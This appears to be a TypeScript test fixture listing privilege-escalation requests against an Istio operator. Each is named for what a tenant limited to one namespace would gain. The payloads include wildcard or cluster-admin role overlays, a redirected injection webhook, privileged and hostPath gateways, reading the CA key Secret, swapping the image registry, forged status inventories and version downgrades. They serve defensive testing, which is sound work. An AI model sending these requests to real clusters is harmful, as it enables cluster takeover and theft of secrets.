/**
 * How somebody with all rights on the IstioOperators of one namespace, and no others, could try to borrow those of the
 * operator. Named after what an attacker would gain.
 */
import type { JsonObject, JsonValue } from '../../src/model/json.ts';
import type { Method } from '../control-plane/api.ts';

/** One call of the tenant, relative to the IstioOperators of its namespace. */
export interface Attempt {
  readonly gain: string;
  readonly method: Method;
  /** Below the collection, such as `/mesh/status`. */
  readonly path: string;
  readonly body: JsonValue;
  readonly contentType?: string;
}

const MERGE = 'application/merge-patch+json';
const APPLY = 'application/apply-patch+yaml';

function create(gain: string, spec: JsonObject, name = 'attack'): Attempt {
  return { gain, method: 'POST', path: '', body: resource(spec, name) };
}

function resource(spec: JsonObject, name: string): JsonObject {
  return { apiVersion: 'install.istio.io/v1alpha1', kind: 'IstioOperator', metadata: { name }, spec };
}

/** A change of the resource that the administrator has made in the tenant's namespace. */
function change(gain: string, body: JsonValue, contentType = MERGE): Attempt {
  return { gain, method: 'PATCH', path: '/mesh', body, contentType };
}

function overlay(kind: string, name: string, path: string, value: JsonValue): JsonObject {
  return { overlays: [{ kind, name, patches: [{ path, value }] }] };
}

function pilot(k8s: JsonObject): JsonObject {
  return { profile: 'minimal', components: { pilot: { k8s } } };
}

function gateway(extra: JsonObject): JsonObject {
  return { profile: 'empty', components: { ingressGateways: [{ name: 'edge', enabled: true, ...extra }] } };
}

const TENANT_SUBJECT = { kind: 'ServiceAccount', name: 'developer', namespace: 'tenant' };
const EVERYTHING = { apiGroups: ['*'], resources: ['*'], verbs: ['*'] };
const ISTIOD_ROLE = 'istiod-clusterrole-istio-system';

const BY_A_RESOURCE_OF_ITS_OWN: readonly Attempt[] = [
  create(
    'all rights, by rules added to the cluster role of istiod',
    pilot(overlay('ClusterRole', ISTIOD_ROLE, 'rules[-1]', EVERYTHING)),
  ),
  create(
    'the rights of istiod, by a subject added to its binding',
    pilot(overlay('ClusterRoleBinding', ISTIOD_ROLE, 'subjects[-1]', TENANT_SUBJECT)),
  ),
  create(
    'cluster-admin for istiod, by another roleRef',
    pilot(overlay('ClusterRoleBinding', ISTIOD_ROLE, 'roleRef.name', 'cluster-admin')),
  ),
  create(
    'every new pod of the cluster, by the address of the injection webhook',
    pilot(
      overlay('MutatingWebhookConfiguration', 'istio-sidecar-injector', 'webhooks.[name:*].clientConfig', {
        url: 'https://tenant.example.com',
      }),
    ),
  ),
  create('every new pod of the cluster, by its own injection template', {
    profile: 'minimal',
    values: { sidecarInjectorWebhook: { templates: { sidecar: 'spec: {}' } } },
  }),
  create(
    'a shell on the node, by a privileged gateway',
    gateway({
      k8s: overlay('Deployment', 'edge', 'spec.template.spec.containers[name:istio-proxy].securityContext', {
        privileged: true,
        runAsUser: 0,
      }),
    }),
  ),
  create(
    'the files of the node, by a hostPath volume',
    gateway({
      k8s: overlay('Deployment', 'edge', 'spec.template.spec.volumes[-1]', {
        name: 'root',
        hostPath: { path: '/' },
      }),
    }),
  ),
  create(
    'the network of the node',
    gateway({ k8s: overlay('Deployment', 'edge', 'spec.template.spec.hostNetwork', true) }),
  ),
  create(
    'the token of istiod, by its service account in a gateway',
    gateway({
      namespace: 'istio-system',
      k8s: overlay('Deployment', 'edge', 'spec.template.spec.serviceAccountName', 'istiod'),
    }),
  ),
  create('the rights of istiod, by an image of its own', { profile: 'minimal', hub: 'tenant.example.com' }),
  create(
    'a Secret of the control plane, by an environment variable',
    gateway({
      namespace: 'istio-system',
      k8s: {
        env: [{ name: 'STOLEN', valueFrom: { secretKeyRef: { name: 'cacerts', key: 'ca-key.pem' } } }],
      },
    }),
  ),
  create('pods in kube-system, by the namespace of a gateway', gateway({ namespace: 'kube-system' })),
  create('pods of another tenant, by the namespace of a gateway', gateway({ namespace: 'other-tenant' })),
  create('pods in kube-system, by the namespace of the control plane', {
    profile: 'minimal',
    values: { global: { istioNamespace: 'kube-system' } },
  }),
  create('the files of every node, by the directories of the CNI agent', {
    profile: 'ambient',
    values: { cni: { cniBinDir: '/etc', cniConfDir: '/root' } },
  }),
  create('the control plane of somebody else, by its own revision of it', pilot({}), 'mesh'),
  create('the trust of the mesh, by another certificate authority', {
    profile: 'minimal',
    values: { global: { caAddress: 'tenant.example.com:443' } },
  }),
  create('all rights, by values that no schema checks', {
    profile: 'minimal',
    unvalidatedValues: { pilot: { image: 'tenant.example.com/pilot' } },
  }),
];

const BY_A_CHANGE: readonly Attempt[] = [
  change('all rights, by a merge patch', { spec: { hub: 'tenant.example.com' } }),
  change(
    'all rights, by a JSON patch',
    [{ op: 'replace', path: '/spec/profile', value: 'minimal' }],
    'application/json-patch+json',
  ),
  {
    gain: 'all rights, by server-side apply under the name of the operator',
    method: 'PATCH',
    path: '/mesh?fieldManager=istio-operator&force=true',
    body: resource({ profile: 'minimal', hub: 'tenant.example.com' }, 'mesh'),
    contentType: APPLY,
  },
  change('an installation with nothing but defaults, by taking the specification away', { spec: null }),
  change('an old Istio with known holes, by annotations', {
    metadata: {
      annotations: {
        'install.istio.io/release-line': '1.28',
        'install.istio.io/allow-version-skip': 'true',
      },
    },
  }),
];

/** `victim` is an object of somebody else, as an inventory would name it. */
export function deputyAttempts(victim: JsonObject): readonly Attempt[] {
  return [
    ...BY_A_RESOURCE_OF_ITS_OWN,
    ...BY_A_CHANGE,
    {
      gain: 'the deletion of what belongs to others, by an inventory of its own',
      method: 'PATCH',
      path: '/mesh/status',
      body: { status: { inventory: [victim] } },
      contentType: MERGE,
    },
    {
      gain: 'an old Istio with known holes, by a forged version',
      method: 'PATCH',
      path: '/mesh/status',
      body: { status: { version: '1.28.10' } },
      contentType: MERGE,
    },
  ];
}
